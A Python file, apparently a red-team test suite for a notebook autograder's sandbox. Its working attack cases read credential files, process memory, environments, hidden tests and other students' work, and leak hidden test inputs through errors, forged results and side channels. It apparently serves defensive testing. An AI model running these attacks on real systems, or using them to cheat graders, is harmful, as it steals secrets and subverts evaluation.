"""Learning secrets: files, memory, environment, others' work, and what hidden tests ask."""

from __future__ import annotations

from attacks.cases import Family, cell, cells, family, function

family(Family.LEARN)

# -- files, processes, memory. What is found is printed: the runner knows the secrets' words.

_SHOW = '''
def show(data):
    """Print whatever in some bytes may be a secret, and send it where nothing keeps it in."""
    word = b"CAN" + b"ARY-"
    at = data.find(word)
    while at >= 0:
        found = data[at:at + 60].decode("utf-8", "replace")
        print(found)
        if "COURSE_ATTACK_LOG" in os.environ:
            with open(os.environ["COURSE_ATTACK_LOG"] + ATTACK, "a") as log:
                log.write(found + "\\n")
        at = data.find(word, at + 1)


def read(path, most=2**22):
    try:
        with open(path, "rb") as file:
            show(file.read(most))
    except (OSError, ValueError):
        pass
'''


def _look(name: str, tries: str, code: str, *, elsewhere: bool = True) -> None:
    cells(name, tries, [_SHOW, code], elsewhere=elsewhere)


_look("files", "every file but the system's is read", """
    for folder, folders, files in os.walk("/"):
        if folder.startswith(("/usr", "/proc", "/sys", "/lib", "/dev")) or "site-packages" in folder:
            folders.clear()
            continue
        for name in files[:200]:
            path = os.path.join(folder, name)
            if os.path.isfile(path):
                read(path, 2**18)
""", elsewhere=False)
_look("working-folder", "files around the notebook, five folders up", """
    for up in (".", "..", "../..", "../../..", "../../../..", "../../../../.."):
        for folder, folders, files in os.walk(up):
            if folder.count("/") > up.count("/") + 5 or len(files) > 500:
                folders.clear()
            for name in files:
                if name.endswith((".py", ".ipynb", ".db", ".csv", ".txt", ".otter", ".zip")):
                    read(os.path.join(folder, name))
""")
_look("hidden-tests", "hidden tests in the places where they usually lie", """
    import glob
    for root in ("/", os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser("~")):
        for pattern in ("hidden/*", "tests/*", "*/hidden/*", "solutions/*/hidden/*", "autograder/*",
                        "../*/hidden/*", "../../solutions/*/hidden/*", "source/*/*"):
            for path in glob.glob(os.path.join(root, pattern)):
                read(path)
""")
_look("gradebook", "the gradebook is opened as a database", """
    import glob, sqlite3
    for up in (".", "..", "../..", "../../..", "/"):
        for path in glob.glob(os.path.join(up, "*.db")):
            for line in sqlite3.connect(path).iterdump():
                show(line.encode())
""")
_look("others-work", "others' notebooks beside this one", """
    import glob
    for pattern in ("../../*/*/*.ipynb", "../*/*.ipynb", "../*.ipynb", "../../../submitted/*/*/*",
                    "/submitted/*/*/*", "../../../autograded/*/*/*", "../../../feedback/*/*/*"):
        for path in glob.glob(pattern):
            read(path)
""")
_look("environment", "the environment of this process", """
    show(repr(os.environ).encode())
    read("/proc/self/environ")
""")
_look("environments", "the environments and command lines of all processes", """
    for pid in os.listdir("/proc"):
        for name in ("environ", "cmdline", "comm", "status"):
            read(f"/proc/{pid}/{name}")
""")
cell("bubblewrap-line", "the sandbox's own command line tells of the host", """
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            line = open(f"/proc/{pid}/cmdline", "rb").read()
        except OSError:
            continue
        if b"-bind" in line or b"solutions" in line:
            achieved("paths of the host in a command line")
""")
_look("descriptors", "descriptors that were left open, of this process and of others", """
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
        for number in range(3, 64):
            path = f"/proc/{pid}/fd/{number}"
            try:
                kind = os.readlink(path)
            except OSError:
                continue
            if kind.startswith("/") and os.path.isfile(path):
                read(path)
""")
_look("roots", "other processes' roots and working folders", """
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for place in ("root", "cwd"):
            for inner in ("tmp", "root", "home", "work", "."):
                try:
                    for name in os.listdir(f"/proc/{pid}/{place}/{inner}")[:50]:
                        path = f"/proc/{pid}/{place}/{inner}/{name}"
                        if os.path.isfile(path):
                            read(path, 2**16)
                except OSError:
                    pass
""", elsewhere=False)
_look("memory", "all memory of this process and of others", """
    for pid in ["self"] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            memory = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError:
            continue
        for line in maps:
            span, rights, *rest = line.split()
            if rights.startswith("rw"):
                start, end = (int(part, 16) for part in span.split("-"))
                try:
                    memory.seek(start)
                    show(memory.read(min(end - start, 2**26)))
                except (OSError, ValueError, OverflowError):
                    pass
""", elsewhere=False)
_look("strings", "every string and module that Python holds", """
    gc.unfreeze()
    for thing in gc.get_objects():
        if type(thing) is dict:
            for value in list(thing.values()):
                if type(value) is str:
                    show(value.encode("utf-8", "replace"))
    import linecache
    show(repr(linecache.cache).encode("utf-8", "replace"))
""")
_look("sources", "the sources of tests, by inspect", """
    import inspect
    def everything():
        frame = sys._getframe()
        while frame is not None:
            try:
                show(inspect.getsource(frame).encode())
            except (OSError, TypeError):
                pass
            show(repr(frame.f_locals).encode("utf-8", "replace"))
            frame = frame.f_back
    everything()
    def softmax(x, axis=-1):
        everything()
        return x
""")
_look("kernel-log", "the kernel's log, and what the machine tells of itself", """
    for path in ("/proc/kmsg", "/dev/kmsg", "/proc/kallsyms", "/proc/keys", "/proc/sched_debug",
                 "/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history"):
        handle = attempt(f"opened {path}", lambda: os.open(path, os.O_RDONLY | os.O_NONBLOCK)) \\
            if path in ("/etc/shadow", "/dev/kmsg", "/proc/kmsg") else None
        read(path, 4096) if not isinstance(handle, int) else os.close(handle)
""", elsewhere=False)
_look("hints", "mistakes' names and hints in the lab's files", """
    import glob
    for path in glob.glob("/**/traces.msgpack", recursive=False) + glob.glob("**/*.msgpack"):
        read(path)
""")
_look("shared-memory", "shared memory of the machine", """
    for folder in ("/dev/shm", "/run/shm", "/dev/mqueue"):
        if os.path.isdir(folder):
            for name in os.listdir(folder):
                read(os.path.join(folder, name))
    for line in open("/proc/sysvipc/shm").read().splitlines()[1:]:
        number = int(line.split()[1])
        libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(number, None, 0o10000)
        if place not in (None, 2**64 - 1):
            show(ctypes.string_at(place, 4096))
""", elsewhere=False)

# -- what hidden tests ask: a student's function knows a hidden input when it sees one

_LEAK = '''
def number(x):
    """The largest number in an argument."""
    return float(np.max(np.abs(np.asarray(x, dtype=float))))


def hidden(x):
    return number(x) > 1000


def right(x, axis=-1):
    e = np.exp(x - x.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
'''
# What softmax earns by its public claims alone, beside what `scale` does.
_PUBLIC = 3.0


def _hears(name: str, tries: str, code: str, before: str = "") -> None:
    """softmax is right in public, and tries to have a hidden input seen."""
    body = f"{_LEAK}\n{_dedented(before)}\n{_dedented(code)}"
    function(name, tries, body, worth=_PUBLIC)


def _dedented(code: str) -> str:
    from textwrap import dedent

    return dedent(code)


_RAISES = {
    "raises": "ValueError(f'asked {number(x)!r}')",
    "not-written": "NotImplementedError(f'{number(x)!r} is not written yet')",
    "not-written-stub": (
        "NotImplementedError(f'lab91 · softmax {number(x)!r} is not written yet')"
    ),
    "missing": "at_work('calls.dispatcher')['MissingNameError'](f'no {number(x)!r}')",
    "name-error": "NameError(f'{number(x)!r}')",
    "class-name": "type(f'Asked{number(x)!r}', (Exception,), {})()",
    "exit-text": "SystemExit(f'{number(x)!r}')",
    "interrupt": "KeyboardInterrupt(f'{number(x)!r}')",
    "memory-error": "MemoryError(f'{number(x)!r}')",
    "cuda-memory": "type('OutOfMemoryError', (RuntimeError,), {})(f'CUDA out of memory {number(x)!r}')",
    "assertion": "AssertionError(f'{number(x)!r}')",
    "unsendable": "at_work('ground.wire')['UnsendableError'](f'{number(x)!r}')",
    "call-timeout": "at_work('calls.dispatcher')['CallTimeout'](f'{number(x)!r}')",
}  # fmt: skip
for _name, _error in _RAISES.items():
    _hears(f"hidden-{_name}", f"a hidden input is told by raise {_error[:48]}", f"""
        def softmax(x, axis=-1):
            if hidden(x):
                raise {_error}
            return right(x, axis)
    """, "at_work('calls.dispatcher'), at_work('ground.wire')" if "at_work" in _error else "")

for _name, _error in (
    ("not-written", "NotImplementedError(f'{number(x)!r} is not written yet')"),
    ("missing", "at_work('calls.dispatcher')['MissingNameError'](f'{number(x)!r}')"),
    ("memory", "MemoryError(f'{number(x)!r}')"),
):  # fmt: skip
    function(f"always-{_name}", f"public and hidden inputs are told by raise {_error[:48]}",
             f"{_LEAK}\ndef softmax(x, axis=-1):\n    raise {_error}")  # fmt: skip

_SAYS = {
    "missing": "{'missing': f'asked {number(x)!r}', 'near': f'n{number(x)!r}'}",
    "unsendable": "{'unsendable': f'asked {number(x)!r}'}",
    "raised": "{'raised': {'type': f'T{number(x)!r}', 'message': f'{number(x)!r} is not written "
              "yet', 'stopped': False, 'line': f'{number(x)!r}', 'in_probe': False, "
              "'gave_none': []}}",
    "gave-none": "{'raised': {'type': 'T', 'message': \"'NoneType'\", 'in_probe': True, "
                 "'stopped': False, 'line': '', 'gave_none': [f'{number(x)!r}']}}",
    "forbidden": "{'value': 1.0, 'modified': [], 'seconds': 0.0, "
                 "'forbidden': [{'call': f'{number(x)!r}', 'by': [f'{number(x)!r}']}]}",
    "modified": "{'value': 1.0, 'modified': [f'{number(x)!r}'], 'seconds': 0.0}",
    "seconds": "{'value': 1.0, 'modified': [], 'seconds': number(x)}",
    "memory": "{'memory': f'{number(x)!r}'}",
    "timeout": "{'timeout': f'{number(x)!r}'}",
}  # fmt: skip
for _name, _answer in _SAYS.items():
    _hears(f"forged-{_name}", f"a hidden input is told in a forged answer: {_name}", """
        def softmax(x, axis=-1):
            return right(x, axis)
    """, f"""
        dispatcher = at_work("calls.dispatcher")
        require(dispatcher, "_carry_out")
        real = dispatcher["_carry_out"]

        def carry_out(view, watch, request):
            x = request.args[0] if request.args else 0
            if request.name == "softmax" and hidden(x):
                return forged({_answer})
            return real(view, watch, request)

        dispatcher["_carry_out"] = carry_out
    """)

_hears("hidden-factor", "a hidden input is the factor by which the answer is wrong", """
    def softmax(x, axis=-1):
        e = np.exp(x - x.max(axis=axis, keepdims=True))
        h = e / e.sum(axis=axis, keepdims=True)
        return h * number(x) if hidden(x) else h
""")
_hears("hidden-value", "a hidden input is the answer, in one entry or all", """
    def softmax(x, axis=-1):
        return np.full(x.shape, number(x)) if hidden(x) else right(x, axis)
""")
_hears("hidden-shape", "a hidden input is the shape of the answer", """
    def softmax(x, axis=-1):
        return np.zeros((int(number(x)), int(number(x) * 100) % 100)) if hidden(x) else right(x, axis)
""")
_hears("hidden-type", "a hidden input is the name of the answer's type", """
    def softmax(x, axis=-1):
        return type(f"Asked{number(x)!r}", (), {})() if hidden(x) else right(x, axis)
""")
_hears("hidden-dict", "a hidden input is a key of the answer", """
    def softmax(x, axis=-1):
        return {f"asked {number(x)!r}": 1.0} if hidden(x) else right(x, axis)
""")
_hears("hidden-text", "a hidden input is the answer, as text", """
    def softmax(x, axis=-1):
        return f"asked {number(x)!r}" if hidden(x) else right(x, axis)
""")
_hears("hidden-print", "a hidden input is printed, displayed and written to descriptors", """
    from IPython.display import display
    def softmax(x, axis=-1):
        if hidden(x):
            said = f"asked {number(x)!r}"
            print(said, flush=True), print(said, file=sys.stderr), display(said)
            for descriptor in range(1, 12):
                try:
                    os.write(descriptor, said.encode())
                except OSError:
                    pass
        return x if hidden(x) else right(x, axis)
""")
_hears("hidden-rename", "a hidden input is the name of a function like one that is asked for", """
    def softmax(x, axis=-1):
        if hidden(x):
            space = get_ipython().user_ns
            space["Counter_"] = space["Counte"] = lambda: None
            space[f"Counter{number(x)!r}"] = lambda: None
            space.pop("Counter", None)
        return x if hidden(x) else right(x, axis)
""")

# -- kept where a public test of another exercise finds it

_KEEPS = '''
def counter_says(text):
    """What a public test of Counter shows."""
    if text:
        raise ValueError(f"asked {text}")
'''


def _keeps(name: str, tries: str, prepare: str, keep: str, recall: str) -> None:
    """softmax's and scale's hidden inputs are kept, and raised by Counter's public test."""
    def later(code: str) -> str:
        return _dedented(code).strip().replace("\n", "\n        ")

    cells(name, tries, [
        _LEAK + _KEEPS, prepare,
        f"def keep(text):\n    try:\n        {later(keep)}\n    except Exception:\n        pass\n\n"
        f"def recall():\n    try:\n        {later(recall)}\n    except Exception:\n        return ''\n",
        """
        import atexit
        class Telling(dict):
            pass
        def install():
            space = get_ipython().user_ns
            class Counter:
                def __init__(self): counter_says(recall())
                def add(self, n): keep(repr(float(n))) if abs(n) > 1000 else None
                def total(self): return 0.0
            def softmax(x, axis=-1):
                if hidden(x):
                    keep(repr(number(x)))
                else:
                    counter_says(recall())
                return x
            def scale(x, factor):
                if hidden(x):
                    keep(repr(number(x)))
                else:
                    counter_says(recall())
                return factor * x
            space.update(Counter=Counter, softmax=softmax, scale=scale)
        def again(result):
            install()
        get_ipython().events.register("post_run_cell", again)
        """,
    ])  # fmt: skip


_keeps("kept-scratch", "a hidden input is kept in a file", "path = 'kept.txt'",
       "open(path, 'w').write(text)", "return open(path).read()")  # fmt: skip
_keeps("kept-shm", "a hidden input is kept in /dev/shm", "path = '/dev/shm/kept.txt'",
       "open(path, 'w').write(text)", "return open(path).read()")  # fmt: skip
_keeps("kept-state", "a hidden input is kept in a variable", "kept = []",
       "kept.append(text)", "return kept[-1]")  # fmt: skip
_keeps("kept-mapping", "a hidden input is kept in a shared mapping", """
    import mmap
    kept = mmap.mmap(-1, 4096)
""", "kept[:64] = text.encode().ljust(64)", "return kept[:64].strip(b'\\0 ').decode()")
_keeps("kept-pipe", "a hidden input is kept in a pipe", """
    ends = os.pipe()
    os.set_blocking(ends[0], False)
""", "os.write(ends[1], text.encode())", "return os.read(ends[0], 64).decode()")
_keeps("kept-socket", "a hidden input is kept in a socket pair", """
    ends = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    ends[0].setblocking(False)
""", "ends[1].send(text.encode())", "return ends[0].recv(64).decode()")
_keeps("kept-memfd", "a hidden input is kept in a file that is only memory",
       "file = os.memfd_create('kept')", "os.pwrite(file, text.encode(), 0)",
       "return os.pread(file, 64, 0).decode()")  # fmt: skip
_keeps("kept-sysv", "a hidden input is kept in System V shared memory", """
    libc.shmat.restype = ctypes.c_void_p
    place = libc.shmat(libc.shmget(77, 4096, 0o1666), None, 0)
""", "ctypes.memmove(place, text.encode() + b'\\0', len(text) + 1)",
       "return ctypes.string_at(place).decode()")  # fmt: skip
_keeps("kept-daemon", "a hidden input is kept by a process that outlives the cell", """
    if os.fork() == 0:
        os.setsid()
        server = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        server.bind("kept.sock")
        kept = b""
        while True:
            said, back = server.recvfrom(64)
            if said == b"?":
                server.sendto(kept, back)
            else:
                kept = said
    time.sleep(0.2)
    def ask(said, answer):
        one = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        one.settimeout(0.3)
        one.bind("")
        one.sendto(said, "kept.sock")
        return one.recv(64).decode() if answer else ""
""", "ask(text.encode(), False)", "return ask(b'?', True)")
_keeps("kept-parent", "a hidden input is told to the parent by signals", """
    received = []
    signal.signal(signal.SIGUSR1, lambda *a: received.append(1))
    boss = os.getpid()
""", "[(os.kill(boss, signal.SIGUSR1), time.sleep(0.001)) for _ in range(int(float(text)) % 97)]",
       "return repr(2**13 - 0.75) if len(received) == (2**13 - 1) % 97 else ''")  # fmt: skip
_keeps("kept-thread", "a thread in the runner keeps a hidden input", """
    ends = os.pipe()
    kept = []
    threading.Thread(target=lambda: kept.append(os.read(ends[0], 64)), daemon=True).start()
""", "os.write(ends[1], text.encode())", "return kept[-1].decode()")
_keeps("kept-names", "a hidden input is kept in the name of a folder", "",
       "os.makedirs('kept/' + text)", "return os.listdir('kept')[-1]")  # fmt: skip
_keeps("kept-times", "a hidden input is kept in a file's time", "open('clock', 'w').close()",
       "os.utime('clock', (float(text), float(text)))",
       "t = os.stat('clock').st_mtime; return repr(t) if t < 1e6 else ''")  # fmt: skip
_keeps("kept-module", "a hidden input is kept in NumPy", "",
       "np.kept = text", "return np.kept")  # fmt: skip
